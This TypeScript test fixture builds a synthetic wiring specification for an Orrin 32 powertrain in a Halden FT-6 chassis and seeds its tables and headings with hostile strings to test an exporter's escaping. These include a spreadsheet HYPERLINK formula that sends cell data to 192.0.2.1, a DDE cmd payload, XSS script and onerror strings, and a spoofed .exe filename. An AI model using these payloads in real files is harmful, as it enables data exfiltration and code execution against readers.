import {
  mono,
  ref,
  strong,
  type Cell,
  type Column,
  type Drawing,
  type Row,
  type Section,
  type Shape,
  type SpecDocument,
  type Table,
} from '../../../src/export/index.ts';

/** A hostile name as it could come with a file of others. */
export const HOSTILE = {
  formula: '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")',
  dde: "+1+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd',
  minus: '-2+3+cmd',
  tab: '\t=1+1',
  carriageReturn: '\r=1+1',
  fullWidth: '＝1+1',
  script: '<script>document.title="owned"</script>',
  attribute: '" onmouseover="alert(1)" x="',
  style: '</style><img src=x onerror=alert(1)>',
  entity: '&lt;b&gt; &amp; &#x41;',
  turned: 'abc\u202Efdp.exe',
  zero: 'a\u0000b\u0007c',
  loneSurrogate: 'x\uD800y',
} as const;

export const LONG_ID =
  'donor:TransmissionOutputShaftSpeedSensorSupplyAndReturnMonitoringMessage.OutputShaftSpeedFilteredValue';
export const UNBROKEN = 'X'.repeat(180);
export const SYMBOLS = '10 kΩ ± 5 %, 0.5 mm², 47 µF, L → R, −40…125 °C, ≤ ½ step, 60 Ω';

/** A reproducible stream of whole numbers below `below` (mulberry32, public domain). */
function numbers(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

const FROM_TO: readonly (readonly [
  key: string,
  title: string,
  kind: Column['kind'],
  weight: number,
  group: string,
  unit?: string,
])[] = [
  ['circuit', 'Circuit', 'code', 8, ''],
  ['rev', 'Rev', 'text', 4, 'Identity'],
  ['function', 'Function', 'text', 22, 'Identity'],
  ['signal', 'Signal, both platforms', 'code', 30, 'Identity'],
  ['criticality', 'Criticality', 'text', 12, 'Identity'],
  ['fromConnector', 'Connector', 'code', 8, 'From'],
  ['fromCavity', 'Cavity', 'code', 6, 'From'],
  ['fromTerminal', 'Terminal', 'text', 16, 'From'],
  ['fromSeal', 'Seal or plug', 'text', 10, 'From'],
  ['fromView', 'View', 'text', 8, 'From'],
  ['toConnector', 'Connector', 'code', 8, 'To'],
  ['toCavity', 'Cavity', 'code', 6, 'To'],
  ['toTerminal', 'Terminal', 'text', 16, 'To'],
  ['toSeal', 'Seal or plug', 'text', 10, 'To'],
  ['wireType', 'Wire type', 'text', 16, 'Conductor'],
  ['size', 'Size', 'number', 6, 'Conductor'],
  ['sizeUnit', 'Size unit', 'text', 5, 'Conductor'],
  ['area', 'Area', 'number', 7, 'Conductor', 'mm²'],
  ['base', 'Base colour', 'text', 7, 'Conductor'],
  ['tracer', 'Tracer', 'text', 7, 'Conductor'],
  ['cutLength', 'Cut length', 'number', 8, 'Conductor', 'mm'],
  ['tolerance', 'Tolerance', 'number', 8, 'Conductor', 'mm'],
  ['stripFrom', 'Strip, from', 'number', 7, 'Conductor', 'mm'],
  ['stripTo', 'Strip, to', 'number', 7, 'Conductor', 'mm'],
  ['branch', 'Branch', 'code', 12, 'Routing'],
  ['twist', 'Twisted with', 'code', 10, 'Routing'],
  ['shield', 'Shield', 'text', 10, 'Routing'],
  ['splice', 'Splice', 'code', 8, 'Routing'],
  ['fuse', 'Fuse', 'text', 10, 'Protection'],
  ['unfused', 'Unfused length', 'number', 8, 'Protection', 'mm'],
  ['load', 'Load, continuous', 'number', 8, 'Protection', 'A'],
  ['inrush', 'Inrush', 'text', 12, 'Protection'],
  ['drop', 'Voltage drop', 'number', 8, 'Protection', 'V'],
  ['zone', 'Zone, most', 'number', 6, 'Protection', '°C'],
  ['covering', 'Covering', 'text', 14, 'Build'],
  ['classes', 'Electrical classes', 'text', 22, 'Build'],
  ['conditioning', 'Conditioning', 'text', 16, 'Build'],
  ['variant', 'Fitted when', 'text', 16, 'Build'],
  ['label', 'Label, both ends', 'code', 18, 'Build'],
  ['pull', 'Pull force, least', 'number', 7, 'Build', 'N'],
  ['notes', 'Notes', 'text', 30, 'Build'],
];

const columnsOf = (declared: typeof FROM_TO): readonly Column[] =>
  declared.map(([key, title, kind, weight, group, unit]) => ({
    key,
    title,
    kind,
    weight,
    ...(group === '' ? { role: 'key' as const } : { group }),
    ...(unit === undefined ? {} : { unit }),
  }));

const FUNCTIONS = [
  'park/neutral interlock',
  'brake switch, normally open',
  'engine speed',
  'fuel level',
  'reverse lamp',
  'air conditioning request',
];
const COLOURS = ['WH', 'BU', 'RD', 'BK', 'GN-YE', 'OG', 'VT', 'GY'];

/** A from–to list of `rows` circuits over 41 columns, some with hostile, long and unusual texts. */
export function fromToTable(rows: number): Table {
  const next = numbers(20260131);
  const pick = <T>(list: readonly T[]): T => list[next(list.length)] as T;
  const special: readonly string[] = [...Object.values(HOSTILE), LONG_ID, UNBROKEN, SYMBOLS];
  const list: Row[] = Array.from({ length: rows }, (_, at) => {
    const cavity = String(1 + (at % 24));
    const note =
      at < special.length ? (special[at] ?? '') : at % 7 === 0 ? 'Keep 50 mm clear of the exhaust; see [3].' : '';
    const cells: Cell[] = [
      `C${String(at + 1).padStart(4, '0')}`,
      pick(['A', 'B', 'C']),
      pick(FUNCTIONS),
      at % 11 === 3 ? LONG_ID : `donor:Msg${next(40)}.Signal${next(90)}`,
      pick(['interlock, primary', 'motion', 'comfort', 'warning']),
      at % 5 === 0 ? [ref('X1', 'cavities-x1')] : 'X1',
      cavity,
      pick(['2.8 mm, tin', '1.5 mm, gold', '6.3 mm, tin']),
      pick(['S-14', 'S-22', 'plug P-3']),
      pick(['wire side', 'mating side']),
      pick(['C2', 'C9', 'J4']),
      String(1 + next(36)),
      pick(['2.8 mm, tin', '1.5 mm, gold']),
      pick(['S-14', 'none']),
      pick(['ISO 6722 class C', 'SAE J1128 TXL']),
      pick([0.35, 0.5, 0.75, 1, 2.5]),
      'mm²',
      pick([0.343, 0.511, 0.753, 1.02, 2.5]),
      pick(COLOURS),
      at % 3 === 0 ? pick(COLOURS) : null,
      200 + next(4200),
      10,
      pick([4, 4.5, 5]),
      pick([4, 4.5, 5]),
      pick(['T1', 'T1/B2', 'T1/B2/B7']),
      at % 9 === 0 ? `C${String(at + 2).padStart(4, '0')}` : null,
      at % 13 === 0 ? 'drain at X1 only' : null,
      at % 8 === 0 ? `S${1 + next(9)}` : null,
      pick(['F12, 10 A', 'F3, 5 A', 'none: signal level']),
      next(300),
      next(120) / 10,
      at % 4 === 0 ? '8 A for 20 ms' : null,
      next(500) / 1000,
      pick([85, 105, 125]),
      pick(['tape', 'convoluted tube', 'heat sleeve']),
      pick(['switched-ground → pull-up input', 'push-pull → logic input']),
      pick(['none', 'pull-up 1 kΩ', 'divider 10 kΩ / 4.7 kΩ']),
      pick(['always', 'drivetrain = 4wd', 'year ≥ 2021']),
      `C${String(at + 1).padStart(4, '0')} X1-${cavity}`,
      pick([40, 60, 90]),
      note,
    ];
    const marks: Partial<Row> =
      at === 4
        ? { mark: { tone: 'changed', text: 'changed in C' } }
        : at === 9
          ? { mark: { tone: 'stop', text: 'stop finding' } }
          : {};
    return { id: `circuit-${at + 1}`, cells, ...marks };
  });
  return {
    kind: 'table',
    id: 'from-to',
    title: 'From–to list',
    sheetName: 'From–to: all [circuits]/*?',
    columns: columnsOf(FROM_TO),
    rows: list,
    note: [
      'One row per conductor. Lengths include strip and service loop. ',
      strong('Cut nothing before the first article is measured.'),
    ],
  };
}

const CAVITY_COLUMNS: readonly Column[] = [
  { key: 'cavity', title: 'Cavity', kind: 'code', weight: 6, role: 'key' },
  { key: 'circuit', title: 'Circuit', kind: 'code', weight: 8 },
  { key: 'wire', title: 'Wire', kind: 'text', weight: 18 },
  { key: 'signal', title: 'Signal', kind: 'code', weight: 34 },
  { key: 'direction', title: 'Direction', kind: 'text', weight: 9 },
  { key: 'nominal', title: 'Nominal, running', kind: 'number', weight: 10, unit: 'V' },
];

export function cavityTable(name: string, count: number): Table {
  return {
    kind: 'table',
    id: `cavities-${name.toLowerCase()}`,
    title: `Connector ${name}, cavities`,
    columns: CAVITY_COLUMNS,
    rows: Array.from({ length: count }, (_, at) => ({
      cells: [
        String(at + 1),
        [ref(`C${String(at + 1).padStart(4, '0')}`, `circuit-${at + 1}`)],
        '0.5 mm² WH-BU',
        at === 3 ? LONG_ID : `donor:Msg${at}.Signal${at}`,
        at % 2 === 0 ? 'in' : 'out',
        at % 3 === 0 ? 13.8 : 0.25,
      ],
    })),
  };
}

const TEST_SHEET: Table = {
  kind: 'table',
  id: 'test-sheet',
  title: 'Test sheet',
  columns: [
    { key: 'test', title: 'Test', kind: 'code', weight: 6 },
    { key: 'points', title: 'Points', kind: 'text', weight: 26 },
    { key: 'condition', title: 'Condition', kind: 'text', weight: 24 },
    { key: 'limit', title: 'Limit', kind: 'text', weight: 14 },
    { key: 'measured', title: 'Measured', kind: 'entry', weight: 12 },
    { key: 'instrument', title: 'Instrument', kind: 'entry', weight: 12 },
    { key: 'pass', title: 'Pass', kind: 'check', weight: 5 },
    { key: 'done', title: 'Person, date', kind: 'entry', weight: 14 },
  ],
  rows: Array.from({ length: 34 }, (_, at) => ({
    cells: [
      `T${at + 1}`,
      `X1-${at + 1} to C2-${at + 3}`,
      'all modules disconnected',
      at % 2 === 0 ? '≤ 0.12 Ω' : '> 1 MΩ',
      null,
      null,
      at === 0,
      null,
    ],
  })),
};

function connectorFace(): Drawing {
  const cavities: Shape[] = Array.from({ length: 24 }, (_, at): Shape => {
    const x = 12 + (at % 12) * 13;
    const y = 16 + Math.floor(at / 12) * 16;
    return {
      kind: 'group',
      shift: { x, y },
      shapes: [
        {
          kind: 'rect',
          x: 0,
          y: 0,
          width: 11,
          height: 13,
          radius: 1.5,
          fill: at % 5 === 0 ? 'shade' : 'paper',
          stroke: { paint: 'ink', width: 0.5 },
        },
        {
          kind: 'text',
          at: { x: 5.5, y: 6.5 },
          text: String(at + 1),
          size: 5,
          anchor: 'middle',
          baseline: 'middle',
          face: 'mono',
        },
      ],
    };
  });
  return {
    width: 190,
    height: 66,
    unitMm: 0.8,
    description: 'Face of connector X1, wire side, 24 cavities in two rows, cavity 1 at the upper left',
    shapes: [
      {
        kind: 'rect',
        x: 4,
        y: 8,
        width: 172,
        height: 46,
        radius: 5,
        stroke: { paint: 'ink', width: 1 },
        fill: 'shade',
      },
      ...cavities,
      { kind: 'path', steps: [['M', 80, 8], ['L', 84, 2], ['L', 96, 2], ['L', 100, 8], ['Z']], fill: 'accent' },
      {
        kind: 'line',
        from: { x: 176, y: 31 },
        to: { x: 188, y: 31 },
        stroke: { paint: 'stop', width: 1.2, dash: [2, 1] },
      },
      {
        kind: 'polyline',
        points: [
          { x: 176, y: 40 },
          { x: 182, y: 44 },
          { x: 188, y: 40 },
        ],
        stroke: { paint: '#1f4e9c', width: 1.5 },
      },
      { kind: 'circle', centre: { x: 182, y: 20 }, radius: 4, fill: 'caution' },
      {
        kind: 'text',
        at: { x: 4, y: 63 },
        text: 'X1 wire side, 0.5 mm² Ω → <lock> & "key" 漢',
        size: 6,
        weight: 'bold',
        paint: 'muted',
      },
      { kind: 'text', at: { x: 188, y: 60 }, text: 'turned', size: 5, anchor: 'end', turnDegrees: -20 },
    ],
  };
}

const PROSE =
  'The interface module receives the message below and sends the reader what it needs. Every value is stale after 100 ms without a frame; then the loss behaviour of the row applies, and the first good sample ends it. ';

export interface SampleSize {
  readonly circuits: number;
}

/** A document with everything the model has, at demanding sizes, full of hostile, long and unusual texts. */
export function sampleDocument(size: SampleSize = { circuits: 200 }): SpecDocument {
  const sections: readonly Section[] = [
    {
      id: 'reading',
      title: 'How to read this document',
      intro: [
        'Circuits are named ',
        mono('C0001'),
        ' and up; the first is ',
        ref('C0001', 'circuit-1'),
        `. Symbols: ${SYMBOLS}`,
      ],
      blocks: [
        { kind: 'paragraph', text: PROSE.repeat(4) },
        { kind: 'caution', tone: 'stop', text: `Airbag circuits: do not probe or splice. ${HOSTILE.script}` },
        {
          kind: 'caution',
          tone: 'note',
          text: 'Values marked from memory or assumed must be verified on the vehicle.',
        },
        { kind: 'heading', level: 2, text: 'Tools', id: 'tools' },
        {
          kind: 'list',
          style: 'bullet',
          entries: ['Crimp tool for 0.35 to 2.5 mm²', [strong('Pull tester'), ', calibrated'], LONG_ID],
        },
        { kind: 'heading', level: 3, text: 'Before you start' },
        { kind: 'list', style: 'check', entries: ['Battery disconnected', 'Cavity plugs counted'] },
        { kind: 'list', style: 'number', entries: Array.from({ length: 11 }, (_, at) => `Step ${at + 1}`) },
        {
          kind: 'keyValues',
          title: 'Conditions',
          entries: [
            { label: 'Ambient', value: '−40…125 °C' },
            { label: 'Reference', value: [ref('connector face', 'face-x1')] },
            { label: HOSTILE.attribute, value: HOSTILE.entity },
          ],
        },
      ],
    },
    {
      id: 'circuits',
      title: 'Circuits',
      startsPage: true,
      page: { paper: 'A3', orientation: 'landscape' },
      blocks: [fromToTable(size.circuits)],
    },
    {
      id: 'connectors',
      title: `Connectors ${HOSTILE.style}`,
      page: { paper: 'A4', orientation: 'portrait' },
      blocks: [
        {
          kind: 'figure',
          id: 'face-x1',
          title: 'Connector X1, wire side',
          drawing: connectorFace(),
          note: 'Not to scale.',
        },
        cavityTable('X1', 24),
        cavityTable('C2', 36),
        {
          kind: 'table',
          id: 'grounds',
          title: 'Grounds',
          columns: CAVITY_COLUMNS,
          rows: [],
          whenEmpty: 'This harness adds no ground.',
        },
        {
          ...fromToTable(8),
          id: 'parts',
          title: 'The same in parts',
          whenWide: 'parts',
          rows: fromToTable(8).rows.map(({ cells }) => ({ cells })),
        },
      ],
    },
    {
      id: 'arithmetic',
      title: 'Arithmetic',
      startsPage: true,
      blocks: [
        {
          kind: 'formula',
          title: 'Engine speed',
          text: 'rawOut = (A · rawIn + B) div C    with A = 1, B = 0, C = 2; rounding half away from zero',
        },
        {
          kind: 'code',
          title: 'In C',
          text: Array.from(
            { length: 20 },
            (_, at) =>
              `${'  '.repeat(at % 4)}if (raw > ${at}u) { value = (int32_t)((${at} * raw + 7) / 16); } /* line ${at}, ${'long comment '.repeat(at === 5 ? 12 : 1)}*/`,
          ).join('\n'),
        },
        { kind: 'pageBreak' },
        TEST_SHEET,
        {
          kind: 'table',
          id: 'tall',
          title: 'A row higher than a page',
          columns: [
            { key: 'id', title: 'Id', kind: 'code', weight: 8 },
            { key: 'text', title: 'Text', kind: 'text', weight: 40 },
          ],
          rows: [{ cells: ['R1', PROSE.repeat(60)] }, { cells: ['R2', 'short, 漢字 and 🚗 are not in the font'] }],
        },
      ],
    },
  ];
  return {
    id: 'sample-wiring-spec',
    title: 'Wiring spec: Orrin 32 powertrain in Halden FT-6 chassis',
    subtitle: 'From–to list, connectors, arithmetic and test sheet',
    stamp: {
      revision: 'C',
      digest: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
      date: '2026-01-31T09:30:00Z',
      tool: 'Crossloom 0.1.0',
    },
    facts: [
      { label: 'Host platform', value: 'Halden FT-6 chassis, 2019–2021' },
      { label: 'Donor platform', value: 'Orrin 32 powertrain' },
      { label: 'Options', value: 'all combinations' },
    ],
    cautions: [
      'Planning aid only. A qualified person must review, bench-test and road-test; nothing here certifies the vehicle.',
      'Disconnect battery, isolate high-voltage systems; high-voltage is out of scope.',
      'Values marked from memory or assumed must be verified on the vehicle.',
    ],
    mark: {
      text: 'NOT FOR BUILD',
      reason: '3 stop findings are open: routing/interlock-by-bus, wire/two-circuits-one-cavity, supply/no-ground.',
    },
    page: { paper: 'A4', orientation: 'portrait' },
    sections,
  };
}
